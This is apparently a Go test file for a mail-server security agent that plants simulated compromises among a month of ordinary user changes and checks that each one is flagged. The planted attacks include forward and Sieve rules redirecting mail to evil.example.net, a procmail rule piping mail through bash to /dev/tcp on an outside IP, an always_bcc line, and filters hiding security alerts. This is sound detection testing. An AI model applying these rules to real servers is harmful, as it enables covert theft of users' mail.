package agent

import (
	"testing"
	"time"

	"waxseal"
)

// TestMonthOfHosting lives through a month of a server with 500 mailboxes: vacations,
// forwards, filters and passwords of users, aliases and upgrades of administrators.
// There is at most one finding a day that anybody need read at once, and each attack
// among them comes out by itself.
func TestMonthOfHosting(t *testing.T) {
	h := newHosting(t)
	planted := map[waxseal.FindingID]bool{}
	for day := range 30 {
		h.ordinaryDay(day)
		i := day - 5
		if i < 0 || i >= len(attacks) {
			continue
		}
		before := len(h.order)
		attacks[i].do(h)
		worst := waxseal.None
		for _, id := range h.order[before:] {
			planted[id], worst = true, max(worst, h.told[id].Severity)
		}
		if worst < waxseal.High {
			t.Errorf("%s: it comes out at %s", attacks[i].name, worst)
			h.list(h.order[before:])
		}
	}
	h.calm(planted)
	gathered := 0
	for _, f := range h.told {
		if f.Rule == gatheredRule {
			gathered += f.Gathered.Changes
		}
	}
	t.Logf("%d changes, %d of them told in %d findings of a day, %d findings in all", h.changes, gathered, h.count(gatheredRule), len(h.order))
	if h.changes < 500 || gathered < 400 || h.count(gatheredRule) > 30 {
		t.Error("users did too little, or are told too often")
	}
}

// attacks are planted among the ordinary changes, one a day.
var attacks = []struct {
	name string
	do   func(h *hosting)
}{
	{"root forwards a user's mail", func(h *hosting) {
		h.write(asAdmin("/usr/bin/tee"), home(11)+"/.forward", "\\u11, drop@evil.example.net\n")
		h.look()
	}},
	{"a neighbour writes a user's rules", func(h *hosting) {
		h.write(hand{exe: "/usr/bin/tee", uid: uid(13), login: uid(13)}, home(12)+"/.forward", "drop2@evil.example.net\n")
		h.look()
	}},
	{"a script of root's answers for seven users", func(h *hosting) {
		for i := range 7 {
			h.write(asAdmin("/usr/bin/python3"), home(20+i)+"/.dovecot.sieve", h.vacation())
			h.look()
		}
	}},
	{"three stolen passwords, one address", func(h *hosting) {
		for i := range 3 {
			h.write(manageSieve(30+i), home(30+i)+"/.dovecot.sieve", "require \"copy\";\nredirect :copy \"collect@evil.example.net\";\n")
			h.look()
			h.now = h.now.Add(5 * time.Hour)
		}
	}},
	{"a stolen password hides warnings", func(h *hosting) {
		h.write(manageSieve(40), home(40)+"/.dovecot.sieve", "require \"fileinto\";\nif header :contains \"subject\" [\"security alert\", \"new sign-in\"] { fileinto \"Trash\"; }\n")
		h.look()
	}},
	{"a stolen password marks invoices as read", func(h *hosting) {
		h.write(manageSieve(41), home(41)+"/.dovecot.sieve", "require [\"imap4flags\", \"fileinto\"];\nif header :contains \"subject\" \"invoice\" { addflag \"\\\\Seen\"; fileinto \"Archive\"; }\n")
		h.look()
	}},
	{"a stolen shell account runs a program", func(h *hosting) {
		h.write(owner(42), home(42)+"/.forward", "\"|/tmp/.x/run\"\n")
		h.look()
	}},
	{"a stolen shell account pipes to a shell", func(h *hosting) {
		h.write(owner(44), home(44)+"/.procmailrc", ":0c\n| /bin/bash -c \"cat > /dev/tcp/203.0.113.9/443\"\n")
		h.look()
	}},
	{"root copies a mailbox", func(h *hosting) {
		h.write(hand{exe: "/usr/bin/python3"}, home(450)+"/.dovecot.sieve", "require \"copy\";\nredirect :copy \"drop3@evil.example.net\";\n")
		h.look()
	}},
	{"a stolen password puts all mail into the trash", func(h *hosting) {
		h.write(manageSieve(45), home(45)+"/.dovecot.sieve", "require \"fileinto\";\nfileinto \"Trash\";\n")
		h.look()
	}},
	{"somebody calls himself ManageSieve", func(h *hosting) {
		h.write(hand{exe: "/home/u13/managesieve", uid: uid(13), argv: []string{"/usr/lib/dovecot/managesieve"}}, home(46)+"/.forward", "drop4@evil.example.net\n")
		h.look()
	}},
	{"an administrator's login goes through the panel's program", func(h *hosting) {
		h.write(hand{exe: "/usr/local/cpanel/cpsrvd", login: admin}, home(47)+"/.forward", "drop5@evil.example.net\n")
		h.look()
	}},
	{"all mail is copied", func(h *hosting) {
		text, _ := h.tree.ReadFile("/etc/postfix/main.cf", 1<<20)
		h.write(asAdmin("/usr/sbin/postconf"), "/etc/postfix/main.cf", string(text)+"always_bcc = all@evil.example.net\n")
		h.look()
		h.write(asAdmin("/usr/sbin/postconf"), "/etc/postfix/main.cf", string(text))
		h.look()
	}},
	{"an alias runs a program", func(h *hosting) {
		text, _ := h.tree.ReadFile("/etc/aliases", 1<<20)
		h.write(asAdmin("/usr/bin/vim.basic"), "/etc/aliases", string(text)+"helpdesk: \"|/usr/local/bin/run\"\n")
		h.look()
	}},
	{"a program is replaced", func(h *hosting) {
		text, _ := h.tree.ReadFile("/usr/lib/postfix/sbin/smtpd", 1<<20)
		for _, content := range []string{"\x7fELF other", string(text)} {
			h.write(asAdmin("/usr/bin/cp"), "/usr/lib/postfix/sbin/smtpd", content)
			h.look()
		}
	}},
}
